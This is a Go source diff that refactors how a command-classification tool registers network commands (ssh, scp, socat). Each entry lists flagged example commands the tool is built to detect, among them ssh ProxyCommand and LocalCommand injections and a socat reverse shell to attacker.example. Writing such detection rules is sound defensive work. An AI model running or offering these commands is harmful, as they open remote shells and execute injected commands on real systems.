@@ -5,8 +5,8 @@ package programs
 
 const sshOpts = "-1 -2 -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V:h -v -vv -vvv -X -x -Y -y -B= -b= -c= -D= -E=w -e= -F=u -I=l -i=r -J=n -L= -l= -m= -O= -o=k -P= -p= -Q= -R= -S= -W= -w="
 
-func init() {
-	register(
+var _ = family("network", func(add func(...*Spec)) {
+	add(
 		&Spec{Names: n("ssh"), Effect: Network, Lang: "ssh-option", Operands: "n -*", Options: sshOpts,
 			Flagged: []string{"ssh -o ProxyCommand='sh -c id' x", "ssh -oProxyCommand=';id' x", "ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "ssh host uptime"}},
 		&Spec{Names: n("scp"), Effect: Network, Lang: "ssh-option", Permute: true, Operands: "-*",
@@ -27,4 +27,4 @@ func init() {
 		&Spec{Names: n("socat"), Effect: Network, Lang: "socat", Operands: "c c?", Loose: true, Options: "-h:h -V:h",
 			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh"}},
 	)
-}
+})
